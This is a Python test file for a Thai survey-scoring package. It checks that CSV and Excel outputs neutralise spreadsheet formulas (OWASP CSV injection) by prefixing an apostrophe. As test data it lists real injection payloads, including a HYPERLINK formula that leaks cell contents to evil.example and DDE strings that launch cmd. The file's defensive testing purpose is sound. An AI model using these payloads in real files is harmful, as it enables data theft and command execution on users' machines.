"""CSV and Excel files written for users cannot run a formula (OWASP "CSV Injection").

* :func:`cleannet_eval.safety.neutralise_cell` — unit tests: text starting with ``=``, ``+``,
  ``-``, ``@``, tab or carriage return (also after leading blanks) gets a leading apostrophe;
  numbers of either sign, numeric text, dates, booleans and missing values stay as they are.
* Every writer of a CSV/XLSX file *for users*, end to end, with spreadsheet text that is a
  formula:

  - ``cleannet-eval score --by unit --format csv`` (``analysis.render_factor_table``), fed a
    survey whose unit names are formulas;
  - ``cleannet_eval.templates.write_templates`` (the blank workbooks handed to offices), fed an
    instrument YAML whose question texts are formulas: no cell may be an openpyxl formula
    (openpyxl writes any string that starts with ``=`` as one) and no text cell may start with a
    trigger.

* ``cleannet_eval.demo`` writes synthetic *raw inputs* that imitate what offices type, not
  files for users, so it is not neutralised (an apostrophe would be read back into the data);
  the committed demo files are checked to hold no formula.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import subprocess
import sys
from collections import Counter
from decimal import Decimal
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
import yaml

from cleannet_eval import config
from cleannet_eval.safety import (
    FORMULA_TRIGGERS,
    is_formula_like,
    neutralise_cell,
    neutralise_frame,
)

from conftest import DEMO_RAW

#: Spreadsheet text that Excel, LibreOffice or Google Sheets would run or evaluate.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n@SUM(A1)",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_gets_an_apostrophe(text: str) -> None:
    assert is_formula_like(text)
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        -3.5, 0, 12, -7, np.float64(-0.25), np.int64(-4), Decimal("-1.5"), True, None, np.nan,
        pd.NA, dt.date(2008, 9, 30), "-3.5", "+12", "-1e-3", "", "กองคลัง", "n < 5",
        "ควรจัดอบรมเพิ่ม = ดีมาก", "'=already neutral", "1-1017-00203-58-1",
    ],
)
def test_numbers_dates_and_ordinary_text_are_left_alone(value: object) -> None:
    out = neutralise_cell(value)
    assert out is value or (out == value)


def test_every_trigger_is_covered() -> None:
    for trigger in FORMULA_TRIGGERS:
        assert neutralise_cell(trigger + "x") == "'" + trigger + "x"


def test_neutralise_frame_changes_text_and_labels_and_not_the_caller_frame() -> None:
    frame = pd.DataFrame({
        "unit": ["=cmd", "กองคลัง", None],
        "text": pd.Series(["@x", "ok", pd.NA], dtype="string"),
        "cat": pd.Categorical(["-x", "y", "y"]),
        "change": [-0.25, 0.5, -1.0],
        "n": [5, 6, 7],
    })
    frame["=label"] = ["a", "b", "c"]
    before = frame.copy()
    out = neutralise_frame(frame)
    pd.testing.assert_frame_equal(frame, before)
    assert out["unit"].tolist()[:2] == ["'=cmd", "กองคลัง"] and pd.isna(out["unit"].iloc[2])
    assert out["unit"].dtype == frame["unit"].dtype
    assert out["text"].tolist()[:2] == ["'@x", "ok"] and out["text"].dtype == "string"
    assert out["cat"].tolist() == ["'-x", "y", "y"]
    assert out["change"].tolist() == [-0.25, 0.5, -1.0] and out["n"].tolist() == [5, 6, 7]
    assert list(out.columns)[-1] == "'=label"


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _formula_cells(cells) -> list[str]:
    return [c for c in cells if isinstance(c, str) and is_formula_like(c)]


def test_score_csv_neutralises_unit_names_from_the_spreadsheet(tmp_path: Path) -> None:
    """``cleannet-eval score SURVEY --by unit --format csv``: the survey's unit names are
    formulas; no CSV cell may start with a trigger (the numbers are still numbers)."""
    source = (DEMO_RAW / "survey_2551_google_forms.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(source)))
    biggest = [unit for unit, _ in Counter(r[1] for r in rows[1:]).most_common(3)]
    evil = dict(zip(biggest, FORMULAS[:1] + FORMULAS[3:5], strict=True))
    for row in rows[1:]:
        row[1] = evil.get(row[1], row[1])
    survey = tmp_path / "survey.csv"
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    survey.write_text(buffer.getvalue(), encoding="utf-8-sig")

    done = subprocess.run(
        [sys.executable, "-m", "cleannet_eval.cli", "score", str(survey), "--by", "unit",
         "--format", "csv"],
        capture_output=True, text=True, check=False, cwd=config.PROJ_ROOT,
    )
    assert done.returncode == 0, done.stderr
    cells = _csv_cells(done.stdout)
    units = {row[0] for row in csv.reader(io.StringIO(done.stdout))}
    for name in evil.values():
        assert name in units or "'" + name in units, name
    assert not _formula_cells(cells), (
        "cleannet-eval score --format csv writes spreadsheet text that a spreadsheet program "
        f"runs as a formula: {sorted(set(_formula_cells(cells)))[:3]}"
    )
    numbers = [c for c in cells if c.replace(".", "", 1).isdigit()]
    assert numbers, "the numbers must stay numbers"


def test_templates_written_with_a_custom_instrument_hold_no_formula(tmp_path: Path) -> None:
    """The blank workbooks for offices, written from an instrument whose texts are formulas."""
    from cleannet_eval.templates import write_templates

    spec = yaml.safe_load((config.INSTRUMENTS_DIR / "cleannet5.yaml").read_text("utf-8"))
    spec["id"] = "evil"
    items = [item for factor in spec["factors"] for item in factor["items"]]
    for item, text in zip(items, FORMULAS[:5], strict=False):
        item["text_th"] = text
        item["text_en"] = text
    spec["factors"][0]["name_th"] = "=1+1"
    spec["factors"][1]["name_en"] = "@SUM(A1)"
    spec["title_th"], spec["title_en"] = "=2+2", "+cmd|' /C calc'!A0"
    spec["scale"]["labels_th"][5] = "-มากที่สุด"
    instrument = tmp_path / "evil.yaml"
    instrument.write_text(yaml.safe_dump(spec, allow_unicode=True), encoding="utf-8")

    problems = []
    for path in write_templates(tmp_path / "templates", instrument):
        for sheet in openpyxl.load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f" or (
                        isinstance(cell.value, str) and is_formula_like(cell.value)
                    ):
                        problems.append(f"{path.name}!{sheet.title}!{cell.coordinate}: "
                                        f"{cell.value!r} ({cell.data_type})")
    assert not problems, "templates hold formula cells:\n" + "\n".join(problems[:10])


def test_demo_raw_files_hold_no_formula() -> None:
    """The demo imitates office inputs (not neutralised on purpose) but runs nothing: no xlsx
    formula cell and no CSV cell starting with ``=``, ``+``, ``@``, tab or CR. A lone ``-`` (the
    offices' "no comment") is ordinary text to a spreadsheet program."""
    found = []
    for path in sorted(DEMO_RAW.iterdir()):
        if path.suffix == ".xlsx":
            for sheet in openpyxl.load_workbook(path).worksheets:
                for row in sheet.iter_rows():
                    found += [f"{path.name}!{c.coordinate}" for c in row if c.data_type == "f"]
        elif path.suffix == ".csv":
            data = path.read_bytes()
            try:
                text = data.decode("utf-8-sig")
            except UnicodeDecodeError:
                text = data.decode("cp874")
            found += [f"{path.name}: {c!r}" for c in _csv_cells(text)
                      if c != "-" and is_formula_like(c)]
    assert not found, found[:10]
